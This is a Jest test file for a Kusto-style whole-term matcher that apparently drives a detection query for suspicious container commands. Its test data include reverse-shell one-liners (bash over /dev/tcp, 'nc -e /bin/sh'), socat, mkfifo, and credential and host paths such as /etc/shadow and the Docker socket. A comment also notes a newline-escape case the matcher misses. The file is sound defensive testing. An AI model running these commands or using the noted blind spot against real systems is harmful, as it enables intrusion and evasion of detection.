import { describe, expect, it } from '@jest/globals';
import { asciiLower, has, hasAny } from './kusto.js';

/** `haystack has needle` as the seed query evaluates it: the caller lowers the haystack once. */
const kustoHas = (haystack: string, needle: string): boolean => has(asciiLower(haystack), needle);

describe('has: whole terms, case-insensitive', () => {
  it.each([
    ['North America', 'america', true],
    ['North America', 'amer', false],
    ['KustoExplorerQueryRun', 'Explorer', false],
    ['image: ALPINE:3.20', 'alpine', true],
    ['alpine3', 'alpine', false],
    ['my-alpine-base', 'alpine', true],
    ['my_alpine_base', 'alpine', true],
    ['alpinelinux', 'alpine', false],
    ['"curl"', 'curl', true],
    ['curlimages/curl:8.8.0', 'curl', true],
    ['libcurl', 'curl', false],
    ['hostPath', 'hostpath', true],
    ['HOSTPATH', 'hostPath', true],
    ['hostPathType', 'hostPath', false],
    ['"privileged":false', 'privileged', true],
    ['unprivileged', 'privileged', false],
    ['allowPrivilegeEscalation', 'privileged', false],
    ['', 'curl', false],
    ['curl', '', false],
  ])('%j has %j → %s', (haystack, needle, expected) => {
    expect(kustoHas(haystack, needle)).toBe(expected);
  });
});

describe('has: ASCII-only case folding', () => {
  it.each([
    ['CAFÉ', 'café', false], // É is not folded: Kusto's case-insensitivity is ASCII only
    ['café', 'café', true],
    ['CAFé', 'café', true],
    ['İstanbul', 'istanbul', false],
    ['STRASSE', 'straße', false],
    ['ǅemal', 'ǆemal', false],
    ['münchen', 'MÜNCHEN', false],
    ['Ünal nc -e', 'nc ', true],
  ])('%j has %j → %s', (haystack, needle, expected) => {
    expect(kustoHas(haystack, needle)).toBe(expected);
  });

  it('lowers only A–Z', () => {
    expect(asciiLower('ABC xyz ÀÉÎ Σ İ 123')).toBe('abc xyz ÀÉÎ Σ İ 123');
  });

  it('treats non-ASCII letters as separators, so a term may end at them', () => {
    expect(kustoHas('éalpineé', 'alpine')).toBe(true);
  });
});

describe('has: needles with punctuation and spaces (the seed command list)', () => {
  it.each([
    // paths: a boundary is needed only after a final letter or digit
    ['/etc/shadow', '/etc', true],
    ['/etcd/data', '/etc', false],
    ['/var/lib/etcd', '/etc', false],
    ['/etc-backup', '/etc', true],
    ['/usr/local/etc/x', '/etc', true],
    ['x/etc', '/etc', true],
    ['/ETC/passwd', '/etc', true],
    ['/sys/fs/cgroup', '/sys', true],
    ['/systemd', '/sys', false],
    ['/etc/systemd', '/sys', false],
    ['/system', '/sys', false],
    ['/proc/1/root', '/proc', true],
    ['/process', '/proc', false],
    ['/host/proc', '/proc', true],
    ['/var/run/docker.sock', '/var/run/docker.sock', true],
    ['/var/run/docker.socket', '/var/run/docker.sock', false],
    ['/run/docker.sock', '/var/run/docker.sock', false],
    // "nc ": boundary before, a real space after
    ['nc -e /bin/sh 1.2.3.4 80', 'nc ', true],
    ['until nc -z db 5432', 'nc ', true],
    ['rsync -a /a /b', 'nc ', false],
    ['sync ', 'nc ', false],
    ['ncat 1.2.3.4', 'nc ', false],
    ['a;nc', 'nc ', false],
    ['a;nc 1.2.3.4 80', 'nc ', true],
    ['/usr/bin/nc 1.2.3.4', 'nc ', true],
    ['nc\t1.2.3.4', 'nc ', false],
    ['"nc","-e"', 'nc ', false],
    ['NC -e sh', 'nc ', true],
    // /dev/tcp
    ['bash -i >& /dev/tcp/1.2.3.4/80 0>&1', '/dev/tcp', true],
    ['/dev/tcpdump', '/dev/tcp', false],
    ['/dev/tcp6', '/dev/tcp', false],
    ['x/dev/tcp/', '/dev/tcp', true],
    // chmod +x
    ['chmod +x a.sh', 'chmod +x', true],
    ['chmod +xs a', 'chmod +x', false],
    ['chmod +x', 'chmod +x', true],
    ['xchmod +x a', 'chmod +x', false],
    ['chmod  +x a', 'chmod +x', false],
    ['chmod u+x a', 'chmod +x', false],
    ['chmod 755 a', 'chmod +x', false],
    // interpreters
    ['python -c "print(1)"', 'python -c', true],
    ['python3 -c "print(1)"', 'python -c', false],
    ['/usr/bin/python -c x', 'python -c', true],
    ['python -command', 'python -c', false],
    ['perl -e 1', 'perl -e', true],
    ['perl -we 1', 'perl -e', false],
    // shells: only inside one string, never across argv items
    ['/bin/sh -c date', '/bin/sh -c', true],
    ['["/bin/sh","-c","date"]', '/bin/sh -c', false],
    ['/bin/sh -cx', '/bin/sh -c', false],
    ['/bin/bash -c x', '/bin/sh -c', false],
    ['/usr/bin/bash -c x', '/bin/bash -c', true],
    ['bash -i', 'bash -i', true],
    ['bash -il', 'bash -i', false],
    ['bash -i >&', 'bash -i', true],
    ['base64 -d', 'base64 -d', true],
    ['base64 --decode', 'base64 -d', false],
    ['base64 -di', 'base64 -d', false],
    // eval: a word anywhere, JSON keys included
    ['eval "$X"', 'eval', true],
    ['{"eval":1}', 'eval', true],
    ['--evaluation-set', 'eval', false],
    ['evaluate.py', 'eval', false],
    ['retrieval', 'eval', false],
    ['mkfifo /tmp/f', 'mkfifo', true],
    ['socat tcp:1.2.3.4:80', 'socat', true],
    ['alpine/socat:1.8', 'socat', true],
  ])('%j has %j → %s', (haystack, needle, expected) => {
    expect(kustoHas(haystack, needle)).toBe(expected);
  });
});

describe('has over JSON text: argv arrays vs `sh -c` strings', () => {
  const json = (value: unknown) => asciiLower(JSON.stringify(value));
  it.each([
    [{ command: ['/bin/sh', '-c', 'nc 1.2.3.4 80 -e sh'] }, '/bin/sh -c', false],
    [{ command: ['/bin/sh', '-c', 'nc 1.2.3.4 80 -e sh'] }, 'nc ', true],
    [{ command: ['nc', '-e', '/bin/sh', '1.2.3.4', '80'] }, 'nc ', false],
    [{ command: ['sh', '-c', '/bin/sh -c "id"'] }, '/bin/sh -c', true],
    [{ args: ['bash -i >& /dev/tcp/1.2.3.4/80 0>&1'] }, 'bash -i', true],
    [{ command: ['bash', '-i'] }, 'bash -i', false],
    [{ command: ['chmod', '+x', '/tmp/x'] }, 'chmod +x', false],
    [{ command: ['python', '-c', 'x'] }, 'python -c', false],
    [{ command: ['sh', '-c', 'echo "nc "'] }, 'nc ', true],
    // JSON escapes a newline as `\n`: the `n` of the escape glues to `nc`, so a command on its own line is missed
    [{ command: ['sh', '-c', 'a\nnc 1.2.3.4'] }, 'nc ', false],
    [{ command: ['sh', '-c', 'a\n nc 1.2.3.4'] }, 'nc ', true],
    [{ command: ['sh', '-c', 'a\ncurl x'] }, 'curl', false],
    [{ command: ['sh', '-c', 'a\tcurl x'] }, 'curl', false],
  ])('%j has %j → %s', (value, needle, expected) => {
    expect(has(json(value), needle)).toBe(expected);
  });
});

describe('hasAny', () => {
  it('returns the matching needles in list order', () => {
    expect(hasAny('curl -s x | sh; wget y', ['wget', 'nc ', 'curl'])).toEqual(['wget', 'curl']);
  });
  it('returns an empty list when nothing matches', () => {
    expect(hasAny('echo hello', ['curl', 'wget'])).toEqual([]);
  });
});
